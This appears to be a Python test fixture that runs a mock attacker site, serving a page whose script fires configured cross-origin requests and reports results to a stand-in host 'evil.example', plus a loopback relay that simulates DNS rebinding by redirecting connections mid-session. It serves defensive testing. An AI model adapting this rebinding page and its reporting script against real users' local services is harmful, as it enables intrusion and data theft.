"""A site of somebody else's: a page that tries what it was given, and a name that is turned elsewhere meanwhile."""

from __future__ import annotations

import json
import queue
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><script>
const tries = %s, site = %s;

async function outcome(one) {
  if (one.image) {
    return new Promise(resolve => {
      const image = new Image();
      image.onload = image.onerror = () => resolve("shown or not");
      image.src = one.image;
    });
  }
  try {
    const answer = await fetch(one.url, one.options);
    return answer.type === "opaque" ? "sent" : `${answer.status} ${await answer.text()}`;
  } catch (error) {
    return `kept back: ${error}`;
  }
}

(async () => {
  await fetch(`${site}/turn`, {method: "POST", mode: "no-cors"});
  const outcomes = {};
  for (const one of tries) outcomes[one.name] = await outcome(one);
  await fetch(`${site}/report`, {method: "POST", mode: "no-cors", body: JSON.stringify(outcomes)});
})();
</script>"""


@dataclass
class Site:
    """The site, served on loopback under whatever name the browser was told."""

    port: int
    turning: Turning
    tries: list[dict[str, Any]] = field(default_factory=list)
    reports: queue.Queue[dict[str, str]] = field(default_factory=queue.Queue)


class Turning:
    """A port whose connections lead to one address and, once turned, to another: what DNS rebinding does to a name."""

    def __init__(self, first: int) -> None:
        self.aim(first, first)
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def aim(self, first: int, then: int) -> None:
        """Lead to the port `first`, and to `then` once turned."""
        self._target, self._then = first, then

    def turn(self) -> None:
        self._target = self._then

    def close(self) -> None:
        self._listener.close()

    def _accept(self) -> None:
        while True:
            try:
                near, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._carry, args=(near,), daemon=True).start()

    def _carry(self, near: socket.socket) -> None:
        """Carry one connection; where to is decided by its first bytes, as browsers connect ahead."""
        with near:
            begun = near.recv(65536)
            if not begun:
                return
            with socket.create_connection(("127.0.0.1", self._target)) as far:
                far.sendall(begun)
                back = threading.Thread(target=_copy, args=(far, near), daemon=True)
                back.start()
                _copy(near, far)
                back.join()


def _copy(one: socket.socket, other: socket.socket) -> None:
    try:
        while piece := one.recv(65536):
            other.sendall(piece)
        other.shutdown(socket.SHUT_WR)
    except OSError:
        return


@contextmanager
def serving() -> Iterator[Site]:
    """The site while it is up."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            own = f"http://evil.example:{site.port}"
            text = PAGE % (json.dumps(site.tries), json.dumps(own)) if self.path == "/" else ""
            self._answer(200 if text else 404, text.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            if self.path == "/turn":
                site.turning.turn()
            else:
                site.reports.put(json.loads(body))
            self._answer(200, b"")

        def _answer(self, status: int, body: bytes) -> None:
            self.send_response(status)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        port = server.server_address[1]
        site = Site(port, Turning(port))
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield site
        finally:
            site.turning.close()
            server.shutdown()
            thread.join(10)
